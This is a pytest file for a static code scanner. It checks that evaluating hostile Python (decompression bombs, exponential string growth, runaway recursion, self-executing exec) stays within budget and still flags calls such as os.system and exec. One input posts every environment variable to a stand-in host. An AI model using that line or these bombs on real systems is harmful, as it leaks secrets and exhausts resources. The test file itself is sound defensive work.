"""Bombs: whatever the code, evaluation ends within its budget, and says so when it had to stop."""

from __future__ import annotations

import resource
import tracemalloc
import zlib

import pytest

from assay.scanner.code.gathered import summed
from assay.scanner.code.package import Unread
from tests.code.evaluation import evaluated, facts_of, value_of

_BOMB = zlib.compress(bytes(64 << 20))


@pytest.mark.parametrize(
    "source",
    [
        "x = " + " + ".join(["'a'"] * 10_000),
        "x = " + " + ".join(["f()"] * 10_000),
        "x = 'a' * 10**9\ny = x * 10\nz = [0] * 10**9",
        "x = 'a'\n" + "x = x + x\n" * 100,
        "x = [1]\n" + "x = x + x\n" * 100,
        "import os\nx = [1]\n" + "x = [x, x]\n" * 100 + "os.system(x)",
        "x = '{0}{0}'\n" + "x = x.format(x)\n" * 60,
        "x = 'aa'\n" + "x = x.replace('a', 'aa')\n" * 60,
        "x = 'ab'\n" + "x = x.join([x, x, x])\n" * 60,
        "x = 2**10**9\nx = 9**9**9**9\nx = 1 << 10**12\nx = str(10**5000)",
        "x = '%999999999d' % 1\nx = '{:>999999999}'.format(1)\nx = f'{1:>999999999}'\nx = 'a'.ljust(10**10)",
        "def f(x): return g(x + 'a')\ndef g(x): return f(x + 'b')\nf('')",
        "def f(x):\n    f(x + 'a'); f(x + 'b'); f(x + 'c')\nf('')",
        "f = lambda x: x\n" + "f = (lambda g: lambda x: g(g(x)))(f)\n" * 40 + "f('a')",
        "x = 0\nfor i in range(10**6):\n    x += i",
        "x = 0\nwhile x < 10**9:\n    x += 1",
        "while True:\n    pass",
        "s = ''\nfor i in range(1000):\n    for j in range(1000):\n        s += chr(j % 128)",
        f"import zlib\nexec(zlib.decompress({_BOMB!r}))",
        "s = 'exec(s)'\nexec(s)",
        "s = 's = s + \"#\"; exec(s)'\nexec(s)",
        "x = 'a'\n" + "\n".join(f"if c{i}:\n    x = x + '{i}'" for i in range(500)),
        "if a == 0: x = 0\n" + "".join(f"elif a == {i}: x = '{i}'\n" for i in range(600)),
        "f = " + "(lambda x: " * 150 + "1" + ")" * 150,
        "\n".join(" " * i + f"class A{i}:" for i in range(90)) + "\n" + " " * 90 + "pass",
        "x = []\nx.append(x)\nexec(x)\nd = {}\nd['d'] = d\nexec(d)",
        "def f():\n    while 1: yield 'a'\nx = ''.join(f())",
        "class A(A): pass\nclass B(A): pass\nA.__bases__ = (B,)\nB().x",
        "x = b''\nfor i in range(5000):\n    x = bytes(x + b'a')",
    ],
)
def test_a_bomb_ends_within_its_budget(source: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    machine = evaluated(source)
    assert machine.budget.steps > -100_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < 20


def test_a_decompression_bomb_takes_bounded_memory() -> None:
    tracemalloc.start()
    facts_of(f"import zlib\nexec(zlib.decompress({_BOMB!r}))")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 100 << 20


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("x = 0\nwhile x < 10**9:\n    x += 1", "loop"),
        ("x = 0\n" + "for i in range(1000):\n    for j in range(1000):\n        x += j\n" * 9, "steps"),
        ("x = 0\nfor i in range(1000):\n    for j in range(1000):\n        x += j", "loop"),
        ("def f(x): return g(x + 'a')\ndef g(x): return f(x + 'b')\nf('')", "depth"),
        ("s = 's = s + \"#\"; exec(s)'\nexec(s)", "layers"),
        ("x = 'a'\n" + "x = x + x\n" * 100, "bytes"),
    ],
)
def test_what_ran_out_is_a_fact(source: str, kind: str) -> None:
    assert kind in {fact.kind for fact in facts_of(source).exhausted}


def test_nothing_is_lost_after_a_budget_ran_out() -> None:
    found = facts_of(
        "s = ''\nfor i in range(1000):\n    for j in range(1000):\n        s += 'a'\nimport os\nos.system('ls')"
    )
    assert "os.system" in {fact.name for fact in found.calls}


@pytest.mark.parametrize(
    "source",
    [
        "if False:\n    exec(a)",
        "def f():\n    return\n    exec(a)\nf()",
        "for x in []:\n    exec(a)",
        "while False:\n    exec(a)",
        "def f():\n    def g():\n        exec(a)",
        "class A:\n    class B:\n        def f(self):\n            exec(a)",
        "x = [exec(a) for b in []]",
        "lambda: exec(a)",
        "try:\n    pass\nexcept E:\n    exec(a)",
        "def f(x):\n    if x == 1:\n        return 2\n    exec(a)\nf(1)",
    ],
)
def test_every_operation_is_looked_at(source: str) -> None:
    assert "builtins.exec" in {fact.name for fact in facts_of(source).calls}


def test_the_same_source_gives_the_same_facts() -> None:
    source = "import os, requests\nfor k in os.environ:\n    requests.post('http://h.example', data=os.environ[k])"
    assert facts_of(source) == facts_of(source)


def test_a_loop_that_was_not_run_to_its_end_has_no_known_value() -> None:
    assert type(value_of("x = 0\nwhile x < 10**9:\n    x += 1")).__name__ != "Constant"


def test_a_table_that_grows_is_not_run_through_for_each_of_its_rows() -> None:
    found = facts_of("""
        class Row:
            def __init__(self, text):
                self.text = text
        class Table:
            def __init__(self):
                self.rows = []
            def add(self, *cells):
                for cell in cells:
                    if cell is unknown:
                        for row in self.rows:
                            fill(cell, row)
                self.rows.append(Row(cells))
        table = Table()
        for number in range(400):
            if number != unknown:
                table.add(Row(number), Row(str(number)), Row(1), Row(2), Row(3), Row(4), Row(5), Row(6), Row(7))
    """)
    assert "steps" not in {fact.kind for fact in found.exhausted}


@pytest.mark.parametrize(
    "loop",
    [
        "while True:\n        found.extend(read(next(source)))",
        "for i in range(100_000):\n        found.append('<%s>' % unknown)",
        "found += [unknown for i in range(20_000) for j in range(20_000)]",
        "while rest <= 10:\n        found.append(rest)\n        rest = 3",
    ],
)
def test_loops_that_lead_nowhere_leave_steps_for_what_comes_later(loop: str) -> None:
    source = "".join(
        f"def f{at}(found, source, rest=1):\n    {loop}\n    return found\nf{at}([], s)\n" for at in range(3)
    )
    assert "steps" not in {fact.kind for fact in facts_of(source).exhausted}


def test_a_budget_that_runs_out_is_told_once_for_each_kind() -> None:
    steps = [Unread(f"{name}.py", "code-budget", f"the steps ran out, line {len(name)}") for name in ("b", "a")]
    other = [Unread("c.py", "code-budget", "the bytes ran out, line 1"), Unread("d.py", "syntax", "broken, line 1")]
    also = Unread("e.py", "syntax", "broken, line 1")
    assert summed([*steps, *other, also]) == (
        Unread("a.py", "code-budget", "the steps ran out, line 1; so in 1 more places"),
        *other,
        also,
    )
